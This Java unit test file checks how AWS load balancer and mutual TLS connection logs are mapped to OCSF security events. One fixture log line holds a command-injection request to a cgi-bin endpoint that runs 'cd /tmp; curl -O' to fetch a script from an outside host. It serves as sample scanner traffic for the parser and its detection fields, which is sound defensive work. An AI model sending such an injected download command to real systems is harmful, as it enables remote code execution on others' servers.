package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.epochMillis;
import static io.socaas.events.ocsf.MappedRecords.line;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * The variants of AWS's network logs that real accounts write besides the documented examples: load
 * balancer requests whose URL holds spaces (as scanners and exploits send them) and request lines the
 * load balancer could not read, Application Load Balancer connection logs of mutual TLS listeners.
 */
class AwsLoadBalancerFlowAndDnsLogVariantsMappingsTest {

    private static final String ELB = "Elastic Load Balancing";

    @Test
    void aRequestWhoseUrlHoldsSpacesIsReadWholeUpToTheHttpVersion() throws Exception {
        JsonNode r = line(
                "http 2026-03-01T09:41:12.512300Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.71:51000 - -1 -1 -1 400 - 188 320"
                        + " \"GET http://198.51.100.10:80/cgi-bin/run?cmd=cd /tmp; curl -O http://203.0.113.99/x.sh HTTP/1.1\""
                        + " \"Mozilla/5.0 zgrab/0.x\" - - - \"Root=1-65e1a0b8-0a1b2c3d4e5f60718293a4b5\" \"-\" \"-\" 0"
                        + " 2026-03-01T09:41:12.512000Z \"-\" \"-\" \"-\" \"-\" \"-\" \"Ambiguous\" \"SpaceInUri\" TID_0a1b2c3d4e5f60718293a4b5c6d7e8f9");
        assertProduct(r, ELB);
        assertThat(r.get("class_uid").asInt()).isEqualTo(4002);
        assertThat(r.get("activity_id").asInt()).isEqualTo(3);
        assertThat(r.at("/http_request/url/url_string").asText())
                .isEqualTo("http://198.51.100.10:80/cgi-bin/run?cmd=cd /tmp; curl -O http://203.0.113.99/x.sh");
        assertThat(r.at("/http_request/url/path").asText()).isEqualTo("/cgi-bin/run");
        assertThat(r.at("/http_request/url/query_string").asText())
                .isEqualTo("cmd=cd /tmp; curl -O http://203.0.113.99/x.sh");
        assertThat(r.at("/http_request/version").asText()).isEqualTo("HTTP/1.1");
        assertThat(r.at("/http_request/user_agent").asText()).isEqualTo("Mozilla/5.0 zgrab/0.x");
        assertThat(r.at("/http_response/code").asInt()).isEqualTo(400);
        assertThat(r.at("/connection_info/uid").asText()).isEqualTo("TID_0a1b2c3d4e5f60718293a4b5c6d7e8f9");
        // the load balancer's desync classification is kept for detection
        assertThat(r.at("/unmapped/classification").asText()).isEqualTo("Ambiguous");
        assertThat(r.at("/unmapped/classificationReason").asText()).isEqualTo("SpaceInUri");

        // a URL without spaces still ends at the space before the version
        JsonNode plain = line(
                "https 2026-03-01T09:41:13.000001Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.72:51001 10.0.4.20:8080 0.001 0.020 0.000 200 200 90 1200"
                        + " \"POST https://shop.example.com:443/api/cart?id=42 HTTP/2.0\" \"okhttp/4.12\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"
                        + " arn:aws:elasticloadbalancing:eu-west-1:210987654321:targetgroup/shop/1a2b3c4d5e6f7a8b \"Root=1-65e1a0b9-1a2b3c4d5e6f708192a3b4c5\""
                        + " \"shop.example.com\" \"arn:aws:acm:eu-west-1:210987654321:certificate/0000aaaa-1111-2222-3333-444455556666\" 1"
                        + " 2026-03-01T09:41:12.980000Z \"forward\" \"-\" \"-\" \"10.0.4.20:8080\" \"200\" \"-\" \"-\"");
        assertThat(plain.get("activity_id").asInt()).isEqualTo(6);
        assertThat(plain.at("/http_request/url/query_string").asText()).isEqualTo("id=42");
        assertThat(plain.at("/http_request/version").asText()).isEqualTo("HTTP/2.0");
        assertThat(plain.at("/dst_endpoint/port").asInt()).isEqualTo(8080);
        assertThat(plain.has("connection_info")).isFalse();
    }

    @Test
    void aRequestLineTheLoadBalancerCouldNotReadIsHttpActivityOther() throws Exception {
        JsonNode r = line(
                "http 2026-03-01T09:42:00.100000Z app/shop-alb/0a1b2c3d4e5f6a7b 203.0.113.73:51002 - -1 -1 -1 400 - 0 272"
                        + " \"- http://shop-alb-123.eu-west-1.elb.amazonaws.com:80- \" \"-\" - - - \"-\" \"-\" \"-\" - 2026-03-01T09:42:00.090000Z"
                        + " \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" \"-\" TID_11112222333344445555666677778888");
        assertProduct(r, ELB);
        assertThat(r.get("class_uid").asInt()).isEqualTo(4002);
        assertThat(r.get("activity_id").asInt()).isEqualTo(99);
        assertThat(r.at("/http_response/code").asInt()).isEqualTo(400);
        assertThat(r.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.73");
    }

    @Test
    void mutualTlsConnectionLogsAreNetworkActivityOpenOrFailWithTheClientCertificate() throws Exception {
        String conn = "2026-03-01T09:43:10.250000Z 198.51.100.33 50444 443 TLSv1.3 TLS_AES_128_GCM_SHA256 %s"
                + " \"CN=device-042,O=Example Fleet,C=DE\" NotBefore=2025-06-01T00:00:00Z;NotAfter=2027-06-01T00:00:00Z 5A2C0001 %s"
                + " TID_aaaabbbbccccddddeeeeffff00001111";
        JsonNode failed = line(conn.formatted("-", "Failed:ClientCertExpired"));
        assertProduct(failed, ELB);
        assertThat(failed.get("class_uid").asInt()).isEqualTo(4001);
        assertThat(failed.get("activity_id").asInt()).isEqualTo(4);
        assertThat(failed.get("status_id").asInt()).isEqualTo(2);
        assertThat(failed.get("status_detail").asText()).isEqualTo("ClientCertExpired");
        assertThat(failed.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:43:10.250Z"));
        assertThat(failed.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.33");
        assertThat(failed.at("/src_endpoint/port").asInt()).isEqualTo(50444);
        assertThat(failed.at("/dst_endpoint/port").asInt()).isEqualTo(443);
        assertThat(failed.at("/tls/version").asText()).isEqualTo("TLSv1.3");
        assertThat(failed.at("/tls/certificate/subject").asText()).isEqualTo("CN=device-042,O=Example Fleet,C=DE");
        assertThat(failed.at("/tls/certificate/serial_number").asText()).isEqualTo("5A2C0001");
        assertThat(failed.at("/connection_info/uid").asText()).isEqualTo("TID_aaaabbbbccccddddeeeeffff00001111");

        JsonNode verified = line(conn.formatted("2.115", "Success"));
        assertThat(verified.get("activity_id").asInt()).isEqualTo(1);
        assertThat(verified.get("status_id").asInt()).isEqualTo(1);
        assertThat(verified.has("status_detail")).isFalse();

        JsonNode plain = line(
                "2026-03-01T09:43:11.000000Z 10.0.7.15 40112 80 - - - \"-\" - - - TID_aaaabbbbccccddddeeeeffff00002222");
        assertThat(plain.get("class_uid").asInt()).isEqualTo(4001);
        assertThat(plain.get("activity_id").asInt()).isEqualTo(1);
        assertThat(plain.has("status_id")).isFalse();

        // the same fields without the quoted subject or the verification status are not a connection log
        assertThat(line("2026-03-01T09:43:12.000000Z 10.0.7.15 40112 80 TLSv1.2 AES128-SHA 1.0 CN=x - - Success")
                        .at("/metadata/product/name")
                        .asText())
                .isNotEqualTo(ELB);
        assertThat(line("2026-03-01T09:43:12.000000Z 10.0.7.15 40112 80 TLSv1.2 AES128-SHA 1.0 \"CN=x\" - - Maybe")
                        .at("/metadata/product/name")
                        .asText())
                .isNotEqualTo(ELB);
    }
}
